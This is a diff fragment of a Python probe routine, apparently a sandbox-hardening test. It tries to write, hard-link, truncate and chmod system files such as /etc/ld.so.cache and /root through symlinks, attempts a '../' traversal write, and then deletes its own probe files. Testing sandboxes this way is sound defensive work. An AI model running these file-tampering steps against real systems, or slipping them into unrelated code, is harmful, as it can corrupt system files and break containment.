@@ -19,13 +19,13 @@ def sigmoid(z):
         found.append(name)
 
     for number, target in enumerate(("/etc/ld.so.cache", "/usr/bin/env", "/proc/self/exe", "/root", "/gatehouse/sandbox/wire.py")):
-        link = f"/box/link{number}"
+        link = f"{os.getcwd()}/link{number}"
         os.path.lexists(link) or os.symlink(target, link)
         attempt(f"write {target}", lambda link=link: open(link, "a").close())
-        attempt(f"hard link {target}", lambda target=target, n=number: os.link(target, f"/box/hard{n}"))
+        attempt(f"hard link {target}", lambda target=target, n=number: os.link(target, f"hard{n}"))
         attempt(f"truncate {target}", lambda link=link: os.truncate(link, 0))
         attempt(f"chmod {target}", lambda link=link: os.chmod(link, 0o777) if "proc" not in link else 1 / 0)
-    attempt("dot dot", lambda: open("/box/../gatehouse-was-here", "w"))
+    attempt("dot dot", lambda: open("../gatehouse-was-here", "w"))
     for name in ("gate_math.py", "probe.py"):
         if os.path.exists(name):
             os.remove(name)
